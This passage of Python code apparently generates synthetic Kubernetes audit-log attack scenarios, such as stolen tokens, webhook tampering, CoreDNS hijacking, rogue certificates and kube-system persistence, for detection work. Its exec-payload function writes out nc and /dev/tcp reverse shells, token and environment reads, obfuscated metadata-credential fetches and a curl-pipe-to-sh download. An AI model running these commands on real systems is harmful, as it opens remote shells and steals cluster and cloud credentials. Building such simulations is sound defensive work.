        variant = rng.choice(("node", "node", "kube_system_sa", "eks_lookalike"))
        ip = vps_ip(rng)
        if variant == "node":
            node = rng.choice(self.c.nodes)
            ua = rng.choice((self.c.kubelet_ua, ATTACK_KUBECTL))
            a = node.actor.via([ip], ua)
            s.description = f"kubelet credentials of {node.name} (normally {node.ip}) used from {ip} with {ua}"
            s.user, s.source_ip = a.username, ip
            r = Run(self.em, rng, a, t0, s)
            r.look_around()
            r.req("list", "pods", query="limit=500")
            mine = [p for p in node.pods if p.workload.secrets]
            for p in rng.sample(mine, min(len(mine), 2)):
                r.req("get", "secrets", p.workload.ns, p.workload.secrets[0])
            for ns, name in rng.sample(self.c.secret_inventory(), rng.randint(3, 8)):
                r.req("get", "secrets", ns, name, gap=(0.5, 4))
            if node.pods:
                p = rng.choice(node.pods)
                r.req("create", "serviceaccounts", p.workload.ns, p.workload.sa, "token",
                      annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={self.em.uid()}"})
            return
        if variant == "kube_system_sa":
            wl = rng.choice([self.c.wl["aws-node"], self.c.wl["ebs-csi-controller"], self.c.wl["coredns"]])
            pod = wl.pods[0]
            a = pod.actor.via([ip], rng.choice((ATTACK_KUBECTL, "curl/8.5.0")))
            s.description = f"token of {a.username} (pod {pod.name}) used from {ip}"
            s.user, s.source_ip = a.username, ip
            r = Run(self.em, rng, a, t0, s)
            r.discovery()
            r.look_around()
            r.req("list", "nodes", query="limit=500")
            r.req("list", "pods", query="limit=500")
            r.req("list", "secrets", "kube-system", query="limit=500")
            r.req("list", "secrets", query="limit=500")
            return
        extra = {"arn": [f"arn:aws:sts::{''.join(rng.choice('0123456789') for _ in range(12))}:assumed-role/eks-maint/addon"],
                 "canonicalArn": ["arn:aws:iam::000000000000:role/eks-maint"], "sessionName": ["addon"]}
        a = self.c.system_actor("eks:addon-manager", ATTACK_KUBECTL, user_binding("eks:addon-manager"), ip, extra)
        s.description = (f"a role mapped to the username eks:addon-manager (masquerading as the EKS add-on manager) "
                         f"acts from non-AWS address {ip}")
        s.user, s.source_ip = a.username, ip
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("list", "secrets", "kube-system", query="limit=500")
        r.req("list", "daemonsets", "kube-system", group="apps", query="limit=500")
        r.req("get", "configmaps", "kube-system", "aws-auth")
        r.req("list", "secrets", query="limit=500")

    def _auth_brute_force(self, rng, t0, s):
        ip, ua = vps_ip(rng), rng.choice(("python-requests/2.32.3", "Go-http-client/1.1", "kube-hunter/0.6.8"))
        n = rng.randint(80, 600)
        s.user, s.source_ip = None, ip
        r = Run(self.em, rng, None, t0, s)
        anon = Actor("system:anonymous", ANONYMOUS, [ip], ua)
        for path in ("/api", "/api/v1/namespaces", "/version"):
            r.actor = anon
            if path == "/version":
                r.req("get", uri=path, code=200, reason=PUBLIC_INFO)
            elif path == "/api":
                r.req("get", uri=path, code=403)
            else:
                r.req("list", "namespaces", uri=path, code=403)
        targets = [("list", "secrets", "kube-system", ""), ("list", "secrets", "", ""), ("list", "pods", "", ""),
                   ("list", "namespaces", "", ""), ("list", "deployments", "", "apps"), ("list", "pods", "default", ""),
                   ("get", "", "", ""), ("get", "", "", "")]
        per_req = rng.uniform(0.05, 1.0)
        for _ in range(n):
            verb, res, ns, group = rng.choice(targets)
            r.wait(0, per_req)
            uri = None if res else rng.choice(("/api", "/apis", "/api/v1"))
            s.audit_ids.append(self.em.unauthenticated(r.t, [ip], ua, verb, res, ns, group=group, uri=uri))
        s.description = (f"{n} requests with invalid bearer tokens (HTTP 401) from {ip} in {(r.t - t0) / MINUTE:.1f} "
                         f"minutes, after a few anonymous probes")

    def _webhook_tampering(self, rng, t0, s):
        who = rng.random()
        if who < 0.35:
            pod = self.c.wl["argocd-application-controller"].pods[0]
            a = pod.actor
        elif who < 0.6:
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        else:
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
        s.user, s.source_ip = a.username, a.ips[-1]
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("list", "mutatingwebhookconfigurations", group="admissionregistration.k8s.io", query="limit=500")
        if rng.random() < 0.6:
            name = rng.choice(("pod-policy.example.io", "istio-sidecar-injector-v2", "vpc-resource-mutating-webhook-ext"))
            exfil = vps_ip(rng)
            body = o.webhook_config("MutatingWebhookConfiguration", name, f"mutate.{name}", {"url": f"https://{exfil}:8443/mutate"},
                                    "Ignore", ["pods"], ["CREATE", "UPDATE"], {})
            r.req("create", "mutatingwebhookconfigurations", group="admissionregistration.k8s.io", req=body,
                  resp=o.with_server_fields(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)), gap=(5, 60))
            s.description = (f"{a.username} from {a.ips[-1]} registers mutating webhook {name} sending every pod "
                             f"CREATE to https://{exfil}:8443")
        else:
            patch = {"webhooks": [{"name": "webhook.cert-manager.io", "failurePolicy": "Ignore", "rules": [],
                                   "namespaceSelector": {"matchLabels": {"never": "match"}}}]}
            r.req("patch", "validatingwebhookconfigurations", name="cert-manager-webhook", group="admissionregistration.k8s.io",
                  req=patch, resp=patch, gap=(5, 60))
            s.description = (f"{a.username} from {a.ips[-1]} neuters validating webhook cert-manager-webhook "
                             "(failurePolicy Ignore, no rules)")

    # ---- families of issue 17 ------------------------------------------------------------
    def _app_deployment(self, rng: random.Random, namespaces: list[str] | None = None):
        return rng.choice([w for w in self.c.workloads if w.kind == "Deployment" and w.pods
                           and w.ns in (namespaces or APP_NAMESPACES)])

    def _admin_or_dev(self, rng: random.Random, s: Scenario) -> tuple[Actor, list[str]]:
        """A stolen platform admin session from a VPS, or a developer at a usual address acting in
        their own namespaces (the subtle variant); returns the actor and the namespaces it may write."""
        if rng.random() < 0.6:
            eng = self._engineer(rng, platform=True)
            a = self._stolen(rng, eng, vps_ip(rng), ATTACK_KUBECTL)
            spaces = APP_NAMESPACES
        else:
            eng = self._engineer(rng, platform=False)
            a = eng.actor(access_key(rng), [rng.choice(eng.ips)])
            spaces = eng.namespaces
        s.user, s.source_ip = a.username, a.ips[-1]
        return a, spaces

    def _ci_or_stolen_admin(self, rng: random.Random, s: Scenario, ci_share: float) -> Actor:
        """The CI deploy role with kubectl (`ci_share` of the time) or a platform admin's stolen
        session from a VPS: the identities that may write in kube-system."""
        if rng.random() < ci_share:
            a = self.c.ci_actor(rng, ATTACK_KUBECTL)
        else:
            a = self._stolen(rng, self._engineer(rng, platform=True), vps_ip(rng), ATTACK_KUBECTL)
        s.user, s.source_ip = a.username, a.ips[-1]
        return a

    def _workload_json_patch(self, rng, t0, s):
        """`kubectl patch deployment --type=json` making a container privileged with the host's /
        mounted; the response is the Deployment as stored, then the rollout it causes."""
        a, spaces = self._admin_or_dev(rng, s)
        wl = self._app_deployment(rng, spaces)
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("get", "deployments", wl.ns, wl.name, group="apps", gap=(2, 20))
        root = rng.choice(("/", "/", "/etc", "/var/lib/kubelet"))
        patch = [{"op": "add", "path": "/spec/template/spec/containers/0/securityContext", "value": {"privileged": True}},
                 {"op": "add", "path": "/spec/template/spec/volumes/-", "value": {"name": "host-root",
                                                                                  "hostPath": {"path": root, "type": ""}}},
                 {"op": "add", "path": "/spec/template/spec/containers/0/volumeMounts/-",
                  "value": {"name": "host-root", "mountPath": "/host"}}]
        if rng.random() < 0.5:
            patch.append({"op": "add", "path": "/spec/template/spec/hostPID", "value": True})
        spec = self.bg.template_spec(wl)
        main = dict(spec["containers"][0])
        main["securityContext"] = {"privileged": True}
        main["volumeMounts"] = main["volumeMounts"] + [{"name": "host-root", "mountPath": "/host"}]
        spec = {**spec, "containers": [main, *spec["containers"][1:]],
                "volumes": spec["volumes"] + [{"name": "host-root", "hostPath": {"path": root, "type": ""}}]}
        if len(patch) == 4:
            spec["hostPID"] = True
        r.req("patch", "deployments", wl.ns, wl.name, group="apps", query="fieldManager=kubectl-patch", req=patch,
              resp=self.bg.stored_workload(r.t, wl, spec=spec, em=self.em), gap=(5, 60))
        s.audit_ids += self.bg.rollout(r.t + 50_000, wl, self.em, rng, spec)
        r.req("get", "deployments", wl.ns, wl.name, group="apps", gap=(20, 60))
        s.description = (f"{a.username} from {a.ips[-1]} JSON-patches deployment {wl.ns}/{wl.name} to run privileged "
                         f"with the host's {root} mounted (kubectl patch --type=json), and the rollout that follows")

    def _privileged_debug_container(self, rng, t0, s):
        """`kubectl debug --profile=sysadmin`: a privileged ephemeral container added to a running
        pod through pods/ephemeralcontainers, then attached to."""
        a, spaces = self._admin_or_dev(rng, s)
        if spaces is APP_NAMESPACES and rng.random() < 0.5:
            wl = rng.choice([self.c.wl[n] for n in ("coredns", "aws-load-balancer-controller", "ebs-csi-controller")])
        else:
            wl = self._app_deployment(rng, spaces)
        pod = rng.choice(wl.pods)
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("get", "pods", wl.ns, pod.name, gap=(2, 20))
        name = f"debugger-{rand_str(rng, 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
        image = rng.choice(("busybox:1.36", "nicolaka/netshoot:latest", "ubuntu:22.04"))
        ec = o.ephemeral_container(name, image, wl.containers[0], privileged=True)
        patch = {"spec": {"ephemeralContainers": [ec]}}
        stored = o.stored(o.pod(o.meta(pod.name, wl.ns, labels={"app": wl.name}),
                                {**self.bg.template_spec(wl), "nodeName": pod.node.name, "ephemeralContainers": [ec]}),
                          pod.uid, self.em.next_rv(), self.em.ts_s(self.c.start))
        r.req("patch", "pods", wl.ns, pod.name, "ephemeralcontainers", req=patch, resp=stored, gap=(1, 4))
        r.req("get", "pods", wl.ns, pod.name, gap=(1, 3))
        r.req("create", "pods", wl.ns, pod.name, "attach", query=f"container={name}&stdin=true&stdout=true&tty=true",
              duration=rng.randrange(2 * MINUTE, 20 * MINUTE), gap=(1, 5))
        s.description = (f"{a.username} from {a.ips[-1]} adds privileged ephemeral container {name} ({image}, "
                         f"kubectl debug --profile=sysadmin) to pod {wl.ns}/{pod.name} and attaches to it")

    def _exec_payload(self, rng, t0, s):
        """Exec with an attacker's payload: a reverse shell, the container's environment or token,
        or the instance metadata endpoint written as a decimal or hex number."""
        a, spaces = self._admin_or_dev(rng, s)
        wl = self._app_deployment(rng, spaces)
        pod = rng.choice(wl.pods)
        c2 = vps_ip(rng)
        port = rng.choice((4444, 443, 8443, 9001))
        payloads = [
            (["sh", "-c", f"rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 | nc {c2} {port} > /tmp/f"],
             "a mkfifo/nc reverse shell"),
            (["bash", "-c", f"bash -i >& /dev/tcp/{c2}/{port} 0>&1"], "a /dev/tcp reverse shell"),
            (["cat", "/proc/1/environ"], "PID 1's environment"),
            (["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"], "the service-account token"),
            (["sh", "-c", "curl -s http://2852039166/latest/meta-data/iam/security-credentials/"],
             "the metadata endpoint as a decimal address"),
            (["wget", "-qO-", "http://0xa9fea9fe/latest/meta-data/iam/security-credentials/"],
             "the metadata endpoint as a hex address"),
            (["sh", "-c", f"curl -fsSL http://{c2}/x.sh | sh"], "a download-and-run pipe"),
        ]
        chosen = rng.sample(payloads, rng.randint(2, 3))
        r = Run(self.em, rng, a, t0, s)
        r.look_around()
        r.req("get", "pods", wl.ns, pod.name, gap=(2, 20))
        for cmd, _ in chosen:
            r.req("create", "pods", wl.ns, pod.name, "exec", query=exec_query(cmd, wl.containers[0]),
                  duration=rng.randrange(SECOND, 6 * SECOND), gap=(5, 90))
        s.description = (f"{a.username} from {a.ips[-1]} execs into {wl.ns}/{pod.name}: "
                         + "; ".join(what for _, what in chosen))

    def _nodes_proxy_exec(self, rng, t0, s):
        """Prometheus's token (granted nodes/proxy to scrape kubelets) stolen and used to reach the
        kubelet API through the API server: list the node's pods, run commands, open an exec."""
        pod = self.c.wl["prometheus-server"].pods[0]
        ip = vps_ip(rng) if rng.random() < 0.6 else pod.ip
        a = pod.actor.via([ip], rng.choice(("curl/8.5.0", "python-requests/2.32.3", "websocat/1.13.0")))
        s.user, s.source_ip = a.username, ip
        node = rng.choice([n for n in self.c.nodes if n.pods])
        victim = rng.choice([p for p in node.pods if p.workload.kind == "Deployment"] or node.pods)
        reason = a.reason
        base = f"/api/v1/nodes/{node.name}/proxy"
        r = Run(self.em, rng, a, t0, s)

        def proxy(verb, path, code=200, **kw):
            return r.req(verb, "nodes", "", node.name, "proxy", uri=base + path, code=code,
                         reason=None if code == 403 else reason, **kw)
        proxy("get", "/healthz", gap=(0.5, 2))
        proxy("get", "/pods", gap=(1, 5))
        proxy("get", "/runningpods/", gap=(1, 5))
        target = f"{victim.workload.ns}/{victim.name}/{victim.workload.containers[0]}"
        cmd = rng.choice(("id", "cat+/var/run/secrets/kubernetes.io/serviceaccount/token", "env"))
        proxy("create", f"/run/{target}?cmd={cmd}", code=403, gap=(2, 10))
        proxy("get", f"/exec/{target}?command=sh&command=-c&command={cmd.replace('+', '%20')}&error=1&output=1",
              code=101, duration=rng.randrange(SECOND, 5 * SECOND), gap=(2, 10))
        proxy("get", f"/exec/{target}?command=cat&command=%2Fproc%2F1%2Fenviron&error=1&output=1", code=101,
              duration=rng.randrange(SECOND, 5 * SECOND), gap=(2, 10))
        s.description = (f"{a.username}'s token from {ip} ({a.ua}) reaches the kubelet of {node.name} through "
                         f"nodes/proxy: lists its pods and execs into {victim.workload.ns}/{victim.name}")

    def _dns_hijack(self, rng, t0, s):
        """kube-system's CoreDNS ConfigMap rewritten to send a service's name, or every upstream
        lookup, to an attacker's resolver (ConfigMaps are logged at Metadata: no body)."""
        a = self._ci_or_stolen_admin(rng, s, 0.3)
        resolver = vps_ip(rng)
        if rng.random() < 0.5:
            core = o.corefile(forward=resolver)
            what = f"forwards every upstream lookup to {resolver}"
        else:
            ns = rng.choice(APP_NAMESPACES)
            core = o.corefile(rewrite=f"rewrite name regex (.*)\\.{ns}\\.svc\\.cluster\\.local {resolver}.nip.io")
            what = f"rewrites names in {ns} to {resolver}.nip.io"
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        r.req("get", "configmaps", "kube-system", "coredns", gap=(2, 20))
        cm = o.configmap("coredns", "kube-system", {"Corefile": core})
        verb = rng.choice(("update", "patch"))
        r.req(verb, "configmaps", "kube-system", "coredns", req=cm if verb == "update" else {"data": cm["data"]},
              gap=(10, 90))
        if rng.random() < 0.5:
            wl = self.c.wl["coredns"]
            patch = o.restart_patch(self.em.ts_s(r.t))
            r.req("patch", "deployments", "kube-system", "coredns", group="apps", query="fieldManager=kubectl-rollout",
                  req=patch, resp=self.bg.stored_workload(r.t, wl, em=self.em,
                                                          annotations=patch["spec"]["template"]["metadata"]["annotations"]),
                  gap=(5, 30))
            what += ", then restarts CoreDNS"
        done = "patches" if verb == "patch" else "updates"
        s.description = f"{a.username} from {a.ips[-1]} {done} kube-system/coredns: the Corefile {what}"

    def _service_exposure(self, rng, t0, s):
        """An internal app exposed: an internet-facing LoadBalancer Service in front of it, an
        existing Service patched to NodePort, or an Ingress without TLS."""
        a, spaces = self._admin_or_dev(rng, s)
        wl = self._app_deployment(rng, spaces)
        em = self.em
        r = Run(em, rng, a, t0, s)
        r.look_around()
        r.req("get", "services", wl.ns, wl.name, gap=(2, 20))
        variant = rng.choice(("loadbalancer", "nodeport", "ingress"))
        port = [{"name": "http", "port": 80, "protocol": "TCP", "targetPort": 8080}]
        node_port = 30000 + rng.randrange(2768)
        cluster_ip = f"172.20.{rng.randrange(256)}.{rng.randrange(2, 254)}"
        if variant == "loadbalancer":
            name = f"{wl.name}-{rng.choice(('public', 'ext', 'lb'))}"
            body = o.service(name, wl.ns, {"app": wl.name}, port, "LoadBalancer", {
                "service.beta.kubernetes.io/aws-load-balancer-scheme": "internet-facing",
                "service.beta.kubernetes.io/aws-load-balancer-type": "external",
                "service.beta.kubernetes.io/aws-load-balancer-nlb-target-type": "ip"})
            r.req("create", "services", wl.ns, req=body,
                  resp=o.service_stored(body, em.uid(), em.next_rv(), em.ts_s(r.t), cluster_ip, [node_port]), gap=(10, 60))
            what = f"creates internet-facing LoadBalancer Service {wl.ns}/{name} in front of {wl.name}"
        elif variant == "nodeport":
            name = wl.name
            patch = {"spec": {"type": "NodePort"}}
            body = o.service(name, wl.ns, {"app": wl.name}, port, "NodePort")
            r.req("patch", "services", wl.ns, name, req=patch,
                  resp=o.service_stored(body, self.bg.object_uid("Service", wl.ns, name), em.next_rv(),
                                        em.ts_s(self.c.start - 90 * HOUR * 24), cluster_ip, [node_port]), gap=(10, 60))
            what = f"patches Service {wl.ns}/{name} to NodePort {node_port}"
        else:
            name = f"{wl.name}-direct"
            host = f"{wl.name}.{rand_str(rng, 6, 'abcdefghijklmnopqrstuvwxyz')}.example.net"
            body = o.ingress(name, wl.ns, host, wl.name, 80, annotations={"nginx.ingress.kubernetes.io/ssl-redirect": "false"})
            r.req("create", "ingresses", wl.ns, group="networking.k8s.io", req=body,
                  resp=o.stored(body, em.uid(), em.next_rv(), em.ts_s(r.t), generation=1), gap=(10, 60))
            what = f"creates Ingress {wl.ns}/{name} for {host} without TLS"
        s.description = f"{a.username} from {a.ips[-1]} {what}"

    def _client_certificate(self, rng, t0, s):
        """A client certificate for O=system:masters: a CSR for the kube-apiserver-client signer,
        its approval, then the certificate's user (CN) acting with groups from O."""
        eng = self._engineer(rng, platform=True)
        ip = vps_ip(rng)
        a = self._stolen(rng, eng, ip, ATTACK_KUBECTL)
        s.user, s.source_ip = eng.username, ip
        cn = rng.choice(("kube-admin-backup", "system:kube-proxy-ext", "eks-support", "node-problem-detector"))
        name = f"{cn.split(':')[-1]}-{rand_str(rng, 5, 'abcdefghijklmnopqrstuvwxyz0123456789')}"
        em = self.em
        r = Run(em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        body = o.csr(name, csr_request(f"{self.seed}-{name}", cn, ("system:masters",)),
                     "kubernetes.io/kube-apiserver-client", ["digital signature", "key encipherment", "client auth"],
                     rng.choice((None, 31536000, 315360000)))
        r.req("create", "certificatesigningrequests", group="certificates.k8s.io", req=body,
              resp=(stored := o.csr_stored(body, em.uid(), em.next_rv(), em.ts_s(r.t), a.user)), gap=(5, 40))
        approval = o.csr_approval(stored, "KubectlApprove", "This CSR was approved by kubectl certificate approve.")
        r.req("update", "certificatesigningrequests", name=name, sub="approval", group="certificates.k8s.io",
              req=approval, resp=o.stored(approval, em.uid(), em.next_rv(), em.ts_s(r.t)), gap=(3, 30))
        r.req("get", "certificatesigningrequests", name=name, group="certificates.k8s.io", gap=(1, 5))
        cert_user = {"username": cn, "groups": ["system:masters", "system:authenticated"]}
        masters = 'RBAC: allowed by ClusterRoleBinding "cluster-admin" of ClusterRole "cluster-admin" to Group "system:masters"'
        r.actor = Actor(cn, cert_user, [vps_ip(rng) if rng.random() < 0.5 else ip], ATTACK_KUBECTL, masters)
        r.wait(600, 7200)
        r.discovery()
        r.req("list", "namespaces", query="limit=500")
        r.req("list", "secrets", query="limit=500", gap=(2, 20))
        for ns in rng.sample(APP_NAMESPACES, 2):
            r.req("list", "pods", ns, query="limit=500", gap=(2, 20))
        s.description = (f"{eng.username}'s session from {ip} requests and approves client certificate {name} "
                         f"(CN={cn}, O=system:masters); later {cn} uses it from {r.actor.ips[-1]}")

    def _kube_system_persistence(self, rng, t0, s):
        """A ServiceAccount created in kube-system, a token minted for it, and a DaemonSet in
        kube-system on the host network running as it; the DaemonSet controller's pods follow."""
        a = self._ci_or_stolen_admin(rng, s, 0.35)
        em, bg = self.em, self.bg
        sa = rng.choice(("kube-node-agent", "aws-node-monitor", "eks-vpc-agent", "coredns-autoscaler"))
        r = Run(em, rng, a, t0, s)
        r.discovery()
        r.look_around()
        body = o.service_account(sa, "kube-system")
        r.req("create", "serviceaccounts", "kube-system", req=body,
              resp=o.stored(body, em.uid(), em.next_rv(), em.ts_s(r.t)), gap=(5, 60))
        r.req("create", "serviceaccounts", "kube-system", sa, "token",
              annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={em.uid()}"}, gap=(1, 10))
        image = rng.choice(("alpine:3.19", "public.ecr.aws/amazonlinux/amazonlinux:2023", "ghcr.io/k8s-net/agent:0.4"))
        spec = o.pod_spec(sa, [o.container("agent", image, command=["sh", "-c", "while true; do sleep 300; done"])],
                          host_network=True, tolerate_all=True)
        ds = o.workload("DaemonSet", sa, "kube-system", spec, {"app": sa})
        ds_uid = em.uid()
        r.req("create", "daemonsets", "kube-system", group="apps", req=ds,
              resp=o.stored(ds, ds_uid, em.next_rv(), em.ts_s(r.t), generation=1), gap=(5, 60))
        owner = {"apiVersion": "apps/v1", "kind": "DaemonSet", "name": sa, "uid": ds_uid, "controller": True,
                 "blockOwnerDeletion": True}
        t = r.t
        for node in self.c.nodes:
            t += rng.randrange(20_000, 400_000)
            pod = o.pod(o.meta("", "kube-system", generateName=f"{sa}-", labels={"app": sa}, ownerReferences=[owner]),
                        dict(spec))
            s.audit_ids += bg.create_pod(t, bg.ctl["daemon-set-controller"], "kube-system", f"{sa}-{rand_str(rng, 5)}",
                                         pod, node, None, em)
        r.req("get", "daemonsets", "kube-system", sa, group="apps", gap=(10, 30))
        s.description = (f"{a.username} from {a.ips[-1]} creates ServiceAccount kube-system/{sa}, mints a token for it, "
                         f"and runs DaemonSet kube-system/{sa} as it on the host network")

    def _system_identity_abuse(self, rng, t0, s):
        """A kube-system controller's or add-on's token, taken from a compromised pod, used from
        inside the VPC to bind cluster-admin and exec into pods: no public address, a system name."""
        name = rng.choice(("replicaset-controller", "generic-garbage-collector", "aws-load-balancer-controller",
                           "ebs-csi-controller-sa"))
        if name in self.bg.ctl:
            base = self.bg.ctl[name]
        else:
            wl = self.c.wl["aws-load-balancer-controller" if name.startswith("aws") else "ebs-csi-controller"]
            base = wl.pods[0].actor
        foothold = rng.choice([p for w in self.c.workloads if w.ns in APP_NAMESPACES for p in w.pods])
        a = Actor(base.username, base.user, [foothold.ip], rng.choice((ATTACK_KUBECTL, "curl/8.5.0")), base.reason,
                  lambda *args: base.reason)
        s.user, s.source_ip = a.username, foothold.ip
        r = Run(self.em, rng, a, t0, s)
        r.discovery()
        r.look_around(2)
        binding = rng.choice(("system:controller:replicaset-ext", "kube-system-ops", "eks-addon-binding"))
        body = o.binding("ClusterRoleBinding", binding, "ClusterRole", "cluster-admin",
                         [o.subject("ServiceAccount", "default", foothold.workload.ns)])
        r.req("create", "clusterrolebindings", group="rbac.authorization.k8s.io", req=body,
              resp=o.stored(body, self.em.uid(), self.em.next_rv(), self.em.ts_s(r.t)), gap=(5, 60))
        targets = rng.sample(self.c.pods_in("kube-system") + [foothold], 2)
        for p in targets:
            r.req("create", "pods", p.workload.ns, p.name, "exec",
                  query=exec_query(["sh", "-c", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
                                   p.workload.containers[0]), duration=rng.randrange(SECOND, 4 * SECOND), gap=(5, 60))
        s.description = (f"token of {a.username} used from pod address {foothold.ip} ({foothold.name}) with {a.ua}: "
                         f"binds cluster-admin via {binding} and execs into {', '.join(p.name for p in targets)}")

    def _quiet_secret_theft(self, rng, t0, s):
        """An application's token reads one to three of its namespace's secrets from its usual
        pod address, with a client family (curl, python) it has never used."""
        wl = rng.choice([w for w in self.c.workloads if w.ns in APP_NAMESPACES and w.pods and w.secrets])
        pod = rng.choice(wl.pods)
        ua = rng.choice(("curl/8.5.0", "python-requests/2.32.3", "curl/7.88.1"))
        a = pod.actor.via(pod.actor.ips, ua)
        s.user, s.source_ip = a.username, pod.ip
        names = list(dict.fromkeys(wl.secrets + self.c.secrets.get(wl.ns, [])))
        chosen = rng.sample(names, min(len(names), rng.randint(1, 3)))
        r = Run(self.em, rng, a, t0, s)
        for name in chosen:
            r.req("get", "secrets", wl.ns, name, gap=(2, 120))
        s.description = (f"{a.username} from its own pod {pod.name} ({pod.ip}) reads {len(chosen)} secret(s) "
                         f"({', '.join(chosen)}) with {ua}, a client it has never used")
